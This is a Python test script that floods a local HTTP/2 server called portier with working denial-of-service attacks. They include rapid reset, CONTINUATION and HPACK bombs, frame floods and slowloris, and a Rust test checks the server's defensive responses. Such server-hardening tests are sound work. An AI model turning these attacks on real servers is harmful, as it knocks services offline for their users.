#!/usr/bin/python3
"""HTTP/2 abuse against a running portier, frame by frame (raw frames over
TLS with ALPN h2; HPACK from Debian's python3-hpack). Prints one JSON object
with what the server did; the Rust test asserts on it.

usage: attacks.py PORT AUTHORITY ATTACK
       attacks.py PORT AUTHORITY ATTACK --loop SECONDS
       attacks.py PORT AUTHORITY slowloris --loop SECONDS [--sockets N]

With --loop the attack repeats on fresh connections until SECONDS have
passed (an attacker process for portier-bench attacks), reading each
connection's answer only briefly; "armed" is printed to stderr once the
attack is under way, and one JSON summary of all rounds at the end.
slowloris (always looping) holds N sockets (default 5000) to the plain
HTTP port PORT, each with a request head that never ends: one more header
line per socket and second, a closed socket replaced at once.
"""
import json
import resource
import selectors
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
ENHANCE_YOUR_CALM, REFUSED_STREAM, PROTOCOL_ERROR, CANCEL = 0xB, 0x7, 0x1, 0x8


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


class Conn:
    def __init__(self, port, authority):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.s = ctx.wrap_socket(raw, server_hostname=authority)
        assert self.s.selected_alpn_protocol() == "h2", self.s.selected_alpn_protocol()
        self.authority = authority
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.buf = b""
        self.times = []
        self.s.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        try:
            self.s.sendall(data)
            return True
        except OSError:
            return False

    def headers_block(self, path="/", extra=()):
        fields = [(":method", "GET"), (":scheme", "https"), (":authority", self.authority), (":path", path)]
        fields.extend(extra)
        return self.enc.encode(fields)

    def request(self, stream, path="/", end_stream=True, extra=()):
        flags = END_HEADERS | (END_STREAM if end_stream else 0)
        return frame(HEADERS, flags, stream, self.headers_block(path, extra))

    def read_frames(self, seconds):
        """Frames until the connection closes or `seconds` pass."""
        out = []
        deadline = time.time() + seconds
        self.s.settimeout(0.2)
        while time.time() < deadline:
            try:
                chunk = self.s.recv(65536)
            except socket.timeout:
                continue
            except (ssl.SSLError, OSError):
                out.append(("closed", 0, 0, b""))
                self.times.append(time.time())
                break
            if not chunk:
                out.append(("closed", 0, 0, b""))
                self.times.append(time.time())
                break
            self.buf += chunk
            while len(self.buf) >= 9:
                length = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + length:
                    break
                ftype, flags = self.buf[3], self.buf[4]
                stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
                payload = self.buf[9 : 9 + length]
                self.buf = self.buf[9 + length :]
                out.append((ftype, flags, stream, payload))
                self.times.append(time.time())
                if ftype == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
        return out


def summary(frames):
    goaway = [f for f in frames if f[0] == GOAWAY]
    rst = [f for f in frames if f[0] == RST_STREAM]
    headers = [f for f in frames if f[0] == HEADERS]
    return {
        "goaway_code": int.from_bytes(goaway[0][3][4:8], "big") if goaway else None,
        # Last stream the server processed: how far a flood got before the cut.
        "goaway_last_stream": int.from_bytes(goaway[0][3][0:4], "big") & 0x7FFFFFFF if goaway else None,
        "rst_codes": sorted({int.from_bytes(f[3][:4], "big") for f in rst}),
        "rst_count": len(rst),
        "responses": len(headers),
        "closed": any(f[0] == "closed" for f in frames),
    }


def statuses(conn, frames):
    out = {}
    for f in frames:
        if f[0] == HEADERS:
            fields = dict(conn.dec.decode(f[3]))
            out[f[2]] = fields.get(":status")
    return out


def fields_by_stream(conn, frames):
    out = {}
    for f in frames:
        if f[0] == HEADERS:
            out[f[2]] = {k.decode() if isinstance(k, bytes) else k: v.decode() if isinstance(v, bytes) else v
                         for k, v in conn.dec.decode(f[3])}
    return out


# How long a looping attacker reads each connection's answer (3 s when
# not looping: the tests assert on what the server sent).
TAIL = 3
# HPACK bomb streams per connection (2 when not looping).
BOMBS = 1


def attack_once(port, authority, attack):
    c = Conn(port, authority)
    result = {}
    if attack == "rapid_reset":
        # CVE-2023-44487: open and cancel streams as fast as possible.
        sent = 0
        for i in range(5000):
            sid = 1 + 2 * i
            ok = c.send(c.request(sid, "/slow/500") + frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
            if not ok:
                break
            sent += 1
        result = summary(c.read_frames(TAIL))
        result["sent"] = sent
    elif attack == "made_you_reset":
        # CVE-2025-8671: make the server reset streams (zero WINDOW_UPDATE).
        for i in range(5000):
            sid = 1 + 2 * i
            if not c.send(c.request(sid, "/slow/500", end_stream=False) + frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0))):
                break
        result = summary(c.read_frames(TAIL))
    elif attack == "continuation_flood":
        # CVE-2024-27316: a header block that never ends.
        block = c.headers_block("/")
        c.send(frame(HEADERS, 0, 1, block))
        junk = c.enc.encode([("x-filler", "a" * 1000)])
        sent = 0
        for _ in range(10000):
            if not c.send(frame(CONTINUATION, 0, 1, junk)):
                break
            sent += 1
        result = summary(c.read_frames(TAIL))
        result["continuations_sent"] = sent
    elif attack == "hpack_bomb":
        # One 4 KB value in the dynamic table, then a block referencing it
        # many times: tiny on the wire, huge decoded.
        big = "b" * 4000
        first = c.enc.encode([(":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", "/"), ("x-bomb", big)])
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, first))
        # Indexed field 62 (first dynamic entry) repeated: 1 byte each.
        bomb = c.enc.encode([(":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", "/")]) + bytes([0x80 | 62]) * 2000
        c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 3 + 2 * i, bomb) for i in range(BOMBS)))
        frames = c.read_frames(TAIL)
        result = summary(frames)
        result["statuses"] = {str(k): v for k, v in statuses(c, frames).items()}
    elif attack == "settings_flood":
        for _ in range(20000):
            if not c.send(frame(SETTINGS, 0, 0)):
                break
        result = summary(c.read_frames(TAIL))
    elif attack == "ping_flood":
        for i in range(20000):
            if not c.send(frame(PING, 0, 0, struct.pack(">Q", i))):
                break
        result = summary(c.read_frames(TAIL))
    elif attack == "empty_data_flood":
        c.send(c.request(1, "/slow/2000", end_stream=False))
        for _ in range(20000):
            if not c.send(frame(DATA, 0, 1, b"")):
                break
        result = summary(c.read_frames(3))
    elif attack == "window_update_flood":
        for _ in range(20000):
            if not c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))):
                break
        result = summary(c.read_frames(3))
    elif attack == "too_many_streams":
        # 101 concurrent streams with SETTINGS_MAX_CONCURRENT_STREAMS = 100.
        data = b"".join(c.request(1 + 2 * i, "/slow/700") for i in range(101))
        c.send(data)
        frames = c.read_frames(4)
        result = summary(frames)
        st = statuses(c, frames)
        result["ok"] = sum(1 for v in st.values() if v == "200")
    elif attack == "never_reads":
        # Ask for 20 x 1 MB and read nothing for a while; then check the
        # server still answers another connection (the test does that).
        c.send(b"".join(c.request(1 + 2 * i, "/bytes/1000000") for i in range(20)))
        time.sleep(2)
        result = {"sent": 20}
    elif attack == "idle_15s":
        # Requests at 0 s and 2 s, then silence until 15 s, then a third:
        # the keep-alive idle timeout (not the header timeout) governs.
        t0 = time.time()
        c.send(c.request(1, "/"))
        frames = c.read_frames(2)
        c.send(c.request(3, "/"))
        frames += c.read_frames(15 - (time.time() - t0))
        c.send(c.request(5, "/"))
        frames += c.read_frames(2)
        result = summary(frames)
        result["statuses"] = {str(k): v for k, v in statuses(c, frames).items()}
    elif attack == "idle_after_long_stream":
        # One stream longer than the idle timeout; the connection must
        # still be closed once it has been idle for the timeout after it.
        t0 = time.time()
        c.send(c.request(1, "/slow/2500"))
        frames = c.read_frames(9)
        result = summary(frames)
        result["statuses"] = {str(k): v for k, v in statuses(c, frames).items()}
        result["elapsed"] = time.time() - t0
    elif attack == "queued_stream":
        # Stream 1 holds the only backend slot; stream 3 waits in the queue
        # and must get its 503 when the queue timeout passes.
        c.send(c.request(1, "/slow/3000"))
        time.sleep(0.3)
        c.send(c.request(3, "/"))
        frames = c.read_frames(5)
        result = summary(frames)
        result["fields"] = {str(k): v for k, v in fields_by_stream(c, frames).items()}
    elif attack == "zero_window_bomb":
        # The "HTTP/2 bomb" (CVE-2026-49975): a 4 KB field put in the HPACK
        # table once, referenced 7 times by each of 100 streams (28 KB of
        # fields from 7 octets), each asking for 1 MB, with a send window of
        # 0 that is never opened. The server must reset them (CANCEL) once
        # limits.h2_stall_timeout_ms has passed.
        c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))

        def literals(fields):
            out = b""
            for n, v in fields:
                n, v = n.encode(), v.encode()
                out += b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
            return out

        pseudo = literals([(":method", "GET"), (":scheme", "https"), (":authority", authority),
                           (":path", "/bytes/1000000")])
        entry = b"\x40\x06x-bomb\x7f" + bytes([(4000 - 127) & 0x7F | 0x80, (4000 - 127) >> 7]) + b"b" * 4000
        t0 = time.time()
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, pseudo + entry))
        c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, pseudo + b"\xbe" * 7)
                        for i in range(1, 100)))
        frames = c.read_frames(6)
        result = summary(frames)
        cancels = [f for f in frames if f[0] == RST_STREAM and int.from_bytes(f[3][:4], "big") == CANCEL]
        result["cancelled"] = len(cancels)
        result["data_octets"] = sum(len(f[3]) for f in frames if f[0] == DATA)
        result["reaped_after"] = (c.times[frames.index(cancels[-1])] - t0) if cancels else None
    else:
        raise SystemExit(f"unknown attack {attack}")
    c.s.close()
    return result


def loop(port, authority, attack, seconds):
    """Repeat the attack on fresh connections until `seconds` pass."""
    global TAIL, BOMBS
    TAIL, BOMBS = 0.3, 100
    deadline = time.time() + seconds
    rounds, errors, closed = 0, 0, 0
    goaway = {}
    armed = False
    while time.time() < deadline:
        if not armed:
            print("armed", file=sys.stderr, flush=True)
            armed = True
        try:
            r = attack_once(port, authority, attack)
        except (OSError, AssertionError):
            errors += 1
            time.sleep(0.05)
            continue
        rounds += 1
        closed += 1 if r.get("closed") else 0
        code = str(r.get("goaway_code"))
        goaway[code] = goaway.get(code, 0) + 1
    return {"attack": attack, "rounds": rounds, "connect_errors": errors,
            "closed_by_server": closed, "goaway_codes": goaway}


def slowloris(port, seconds, sockets):
    """Hold `sockets` connections with request heads that never end."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < sockets + 100:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, sockets + 1000), hard))
    # SECONDS count from the moment every socket holds its head (opening
    # 5,000 takes a moment); at most a minute to get there.
    deadline = time.time() + 60
    live = {}
    opened, failed, closed_by_server, lines_sent = 0, 0, 0, 0
    sel = selectors.DefaultSelector()

    def open_one():
        nonlocal opened, failed
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect_ex(("127.0.0.1", port))
        except OSError:
            failed += 1
            s.close()
            return
        opened += 1
        live[s.fileno()] = (s, False)
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)

    def drop(fd):
        s, _ = live.pop(fd)
        sel.unregister(s)
        s.close()

    for _ in range(sockets):
        open_one()
    armed_at = None
    next_tick = time.time() + 1
    while time.time() < deadline:
        for key, ev in sel.select(timeout=0.05):
            fd = key.fd
            if fd not in live:
                continue
            s, started = live[fd]
            if ev & selectors.EVENT_READ:
                # Anything from the server (a 408, a close) ends this socket.
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                closed_by_server += 1
                drop(fd)
                open_one()
                continue
            if ev & selectors.EVENT_WRITE and not started:
                try:
                    s.send(b"GET / HTTP/1.1\r\nHost: slow.localhost\r\n")
                except OSError:
                    drop(fd)
                    open_one()
                    continue
                live[fd] = (s, True)
                sel.modify(s, selectors.EVENT_READ)
        if armed_at is None and all(st for _, st in live.values()) and len(live) >= sockets:
            armed_at = time.time()
            deadline = armed_at + seconds
            print("armed", file=sys.stderr, flush=True)
        if time.time() >= next_tick:
            next_tick += 1
            for fd, (s, started) in list(live.items()):
                if started:
                    try:
                        s.send(b"X-a: b\r\n")
                        lines_sent += 1
                    except OSError:
                        pass
    held = sum(1 for _, st in live.values() if st)
    for fd in list(live):
        drop(fd)
    return {"attack": "slowloris", "sockets": sockets, "armed": armed_at is not None,
            "held_at_end": held, "opened": opened,
            "connect_failed": failed, "closed_by_server": closed_by_server,
            "header_lines_sent": lines_sent}


def main():
    port, authority, attack = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    opts = dict(zip(sys.argv[4::2], sys.argv[5::2]))
    if attack == "slowloris":
        result = slowloris(port, float(opts.get("--loop", "10")), int(opts.get("--sockets", "5000")))
    elif "--loop" in opts:
        result = loop(port, authority, attack, float(opts["--loop"]))
    else:
        result = attack_once(port, authority, attack)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
